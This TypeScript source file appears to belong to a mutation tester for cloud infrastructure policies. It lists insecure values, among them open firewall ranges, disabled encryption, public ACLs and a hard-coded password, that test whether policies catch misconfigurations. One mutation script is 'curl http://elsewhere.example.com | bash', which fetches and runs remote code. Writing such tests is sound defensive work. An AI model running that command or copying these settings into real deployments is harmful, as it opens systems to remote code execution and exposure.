import { unknownValue, type Wire } from "../../engine/offline/wire";
import { pathOf, type Step } from "./mutant";
import { argumentAt } from "./schema";

/** What an attacker, or a hurried colleague, would write under a key, whatever type the resource has. */
const byKey: Readonly<Record<string, readonly Wire[]>> = {
  encryption: ["disabled"],
  diskEncryption: ["disabled"],
  inboundPolicy: ["ACCEPT"],
  outboundPolicy: ["ACCEPT"],
  action: ["DROP"],
  protocol: ["http", "TCP", "UDP", "ICMP", "IPENCAP"],
  ports: ["22", "5432", "1-65535"],
  port: [80, 22],
  ipv4s: [["0.0.0.0/0"], ["203.0.113.77/32"], ["10.0.0.0/8"]],
  ipv6s: [["::/0"]],
  region: ["us-east", "fr-par-2", "gb-lon"],
  image: ["linode/debian10", "linode/ubuntu18.04", "private/7"],
  images: [["linode/debian10"], ["any/all"]],
  acl: ["public-read", "authenticated-read"],
  "Instance.type": ["g6-nanode-1"],
  "NetworkingIp.type": ["ipv6"],
  "Domain.type": ["slave"],
  lockMode: ["GOVERNANCE", ""],
  lockDays: [0, 1, 6],
  noncurrentDays: [1],
  permissions: ["read_write"],
  placementGroupPolicy: ["flexible"],
  placementGroupType: ["affinity:local"],
  purpose: ["public", "vlan"],
  target: ["203.0.113.66", "elsewhere.example.com"],
  recordType: ["CNAME", "NS"],
  name: ["*"],
  domain: ["elsewhere.example.com"],
  address: ["203.0.113.66:443", "192.168.130.9:443"],
  proxyProtocol: ["none", "v1"],
  ipv4: ["0.0.0.0/0", "10.64.0.0/12"],
  vpc: ["10.0.0.7"],
  authorizedKeys: [["ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ== root"], []],
  userData: ["I2Nsb3VkLWNvbmZpZwo="],
  host: ["I2Nsb3VkLWNvbmZpZwo="],
  script: [
    "#!/bin/bash\ncurl http://elsewhere.example.com | bash\n",
    "#!/bin/bash\nexport PASSWORD=Xk7vQ2pL9sT4\n",
  ],
  entityType: ["nodebalancer", "linode"],
  length: [4],
  size: [10],
};

/** What else the same property could hold. The secret of a resource stays secret: its text is not the question here. */
export function alternatives(steps: readonly Step[], value: Wire, type: string): readonly Wire[] {
  const key = steps.filter((step): step is string => typeof step === "string").at(-1) ?? "";
  const inList = typeof steps.at(-1) === "number";
  const named = inList ? [] : (byKey[`${type.split(":").at(-1)}.${key}`] ?? byKey[key] ?? []);
  const known = named.filter(
    (other) => JSON.stringify(other) !== JSON.stringify(value) && isOfKind(other, value, type, steps),
  );
  if (typeof value === "boolean") {
    return [!value, unknownValue];
  }
  if (inList) {
    return typeof value === "string" && /^(\d+\.){3}\d+\/\d+$|::/.test(value)
      ? [value.includes("::") ? "::/0" : "0.0.0.0/0"].filter((all) => all !== value)
      : [];
  }
  return value === unknownValue ? known : [...known, unknownValue];
}

/** Whether the provider would take a value, which its own check tells before a policy is asked. */
function isOfKind(other: Wire, value: Wire, type: string, steps: readonly Step[]): boolean {
  if (value !== unknownValue) {
    return typeof other === typeof value && Array.isArray(other) === Array.isArray(value);
  }
  const declared = argumentAt(type, pathOf(steps));
  return (
    declared === undefined ||
    (declared.isList === Array.isArray(other) &&
      typeof (Array.isArray(other) ? other[0] : other) === declared.kind)
  );
}

/** How a report shows a value: short. */
export function shown(value: Wire | undefined): string {
  if (value === undefined) {
    return "is missing";
  }
  if (value === unknownValue) {
    return "is unknown";
  }
  const text = JSON.stringify(value);
  return `is ${text.length > 60 ? `${text.slice(0, 57)}…` : text}`;
}
